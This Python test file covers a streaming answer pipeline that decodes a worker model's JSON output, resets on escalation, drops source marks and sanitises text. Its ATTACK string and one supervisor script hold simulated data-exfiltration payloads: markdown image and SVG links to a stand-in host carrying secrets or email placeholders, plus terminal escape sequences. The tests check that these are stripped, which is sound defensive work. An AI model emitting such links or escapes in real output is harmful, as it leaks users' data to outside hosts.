"""Direct answers stream too: the worker's JSON is decoded to answer text as it arrives."""

from __future__ import annotations

import json
from typing import Any

from tandem.graphs._stream import SOURCE_MARKS, AnswerExtractor, SourceMarks
from tandem.workers.testing import FakeOllama, FakeOpenAI

DIRECT_Q = "How quickly does Brightwater Lettings return deposits?"


def test_extractor_decodes_escapes_split_anywhere() -> None:
    answer = 'Deposits: "14 days" \\ café ☕\nsecond line'
    raw = json.dumps({"confidence": 0.9, "answer": answer, "citations": ["S1"]})
    for size in (1, 2, 3, 7):
        x = AnswerExtractor()
        pieces = [x.feed(raw[i : i + size]) for i in range(0, len(raw), size)]
        assert "".join(pieces) == answer
        assert x.state == "done"
        assert sum(bool(p) for p in pieces) > 3  # it really arrived in pieces


async def test_direct_answer_streams_as_token_events(make_graph: Any) -> None:
    graph = make_graph()
    events: list[dict[str, Any]] = []
    final: dict[str, Any] = {}
    async for mode, chunk in graph.astream({"query": DIRECT_Q}, stream_mode=["custom", "values"]):
        if mode == "custom":
            events.append(chunk)
        else:
            final = chunk
    tokens = [e for e in events if e["event"] == "token"]
    assert len(tokens) > 3
    assert {e["worker"] for e in tokens} == {"tenancy"}
    assert "".join(e["text"] for e in tokens) == final["answer"].text
    assert "14 days" in final["answer"].text


async def test_escalation_resets_the_streamed_draft(
    make_graph: Any, fake_ollama: FakeOllama
) -> None:
    low = {"answer": "not sure", "confidence": 0.1, "citations": [], "needs_escalation": True}
    fake_ollama.script("qwen2.5:1.5b", json.dumps(low))
    graph = make_graph()
    events = [c async for c in graph.astream({"query": DIRECT_Q}, stream_mode="custom")]
    kinds = [e["event"] for e in events]
    assert "reset" in kinds
    first_reset = kinds.index("reset")
    assert "".join(e["text"] for e in events[:first_reset] if e["event"] == "token") == "not sure"


# -- what streams is what the final answer shows ----------------------------------------

ATTACK = (
    "Deposits come back in 14 days. ![y](http://evil.example\\@gov.uk/p.png?d=SECRET) "
    "<svg><image href=//evil.example/x></svg> see www.evil.example/steal?d=1 "
    "\x1b]0;pwned\x07\x1b[2Jdone [ok](https://gov.uk/deposits)."
)


async def _events(graph: Any, query: str) -> tuple[list[dict[str, Any]], Any]:
    events: list[dict[str, Any]] = []
    final: dict[str, Any] = {}
    async for mode, chunk in graph.astream({"query": query}, stream_mode=["custom", "values"]):
        if mode == "custom":
            events.append(chunk)
        else:
            final = chunk
    return events, final["answer"]


async def test_a_streamed_worker_answer_is_sanitised_split_anywhere(
    make_graph: Any, fake_ollama: FakeOllama
) -> None:
    reply = {"answer": ATTACK, "confidence": 0.9, "citations": ["S1"], "needs_escalation": False}
    for size in (1, 3, 7):
        fake_ollama.chunk_chars = size
        fake_ollama.script("qwen2.5:1.5b", json.dumps(reply))
        graph = make_graph(privacy={"allowed_link_hosts": ["gov.uk"]})
        events, answer = await _events(graph, DIRECT_Q)
        assert not any(e["event"] == "reset" for e in events), (answer.notes, answer.worker_results)
        streamed = "".join(e["text"] for e in events if e["event"] == "token")
        assert streamed == answer.text, size
        for bad in ("evil.example", "\x1b", "pwned", "\x07"):
            assert bad not in streamed and all(bad not in e["text"] for e in events if "text" in e)
        assert "https://gov.uk/deposits" in streamed and "14 days" in streamed


async def test_the_supervisors_stream_shows_restored_text_once(
    make_graph: Any, fake_openai: FakeOpenAI
) -> None:
    fake_openai.chunk_chars = 2  # a placeholder arrives split over several tokens
    fake_openai.script(
        "Write to <EMAIL_1> or call <PHONE_1>. ![x](https://evil.example/p.png?d=<EMAIL_1>)"
    )
    graph = make_graph(privacy={"policy": "redact", "trusted_hosts": []})
    assert graph.runtime.supervisor.llm.where == "remote"
    events, answer = await _events(
        graph, "Who painted the Mona Lisa? jane.doe@example.com, +44 7700 900123"
    )
    streamed = "".join(e["text"] for e in events if e["event"] == "token")
    assert "<EMAIL_1>" not in streamed and "<PHONE_1>" not in streamed
    assert "jane.doe@example.com" in streamed and "evil.example" not in streamed
    assert streamed.strip() == answer.text.strip()


def test_source_marks_are_dropped_however_the_text_is_split() -> None:
    cases = {
        "Within 14 days [S2]. The cap is 21 days [S1], [S3] in law.": (
            "Within 14 days. The cap is 21 days in law."
        ),
        "Deposits [S1],[S2]: within 14 days [S10]": "Deposits: within 14 days",
        "An array a[1] and [Some text] and [S] stay; [S4]": (
            "An array a[1] and [Some text] and [S] stay;"
        ),
        "Trailing space stays   ": "Trailing space stays   ",
    }
    for text, shown in cases.items():
        assert SOURCE_MARKS.sub("", text) == shown
        for size in (1, 2, 3, 5):
            marks = SourceMarks()
            pieces = [marks.feed(text[i : i + size]) for i in range(0, len(text), size)]
            assert "".join(pieces) + marks.finish() == shown, (text, size)


async def test_an_escalated_answers_stream_shows_no_source_marks(
    make_graph: Any, fake_ollama: FakeOllama, fake_openai: FakeOpenAI
) -> None:
    fake_ollama.script(
        "qwen2.5:1.5b",
        {"answer": "Maybe?", "confidence": 0.2, "citations": [], "needs_escalation": True},
    )
    fake_openai.chunk_chars = 2  # "[S1]" arrives split over tokens
    fake_openai.script("Brightwater returns the deposit within 14 days [S1], [S2].")
    graph = make_graph(cascade={"escalation": "answer"})
    events, answer = await _events(graph, DIRECT_Q)
    after_reset = events[max(i for i, e in enumerate(events) if e["event"] == "reset") + 1 :]
    streamed = "".join(e["text"] for e in after_reset if e["event"] == "token")
    assert streamed == answer.text == "Brightwater returns the deposit within 14 days."
    assert answer.citations  # the sources are named in the citations instead
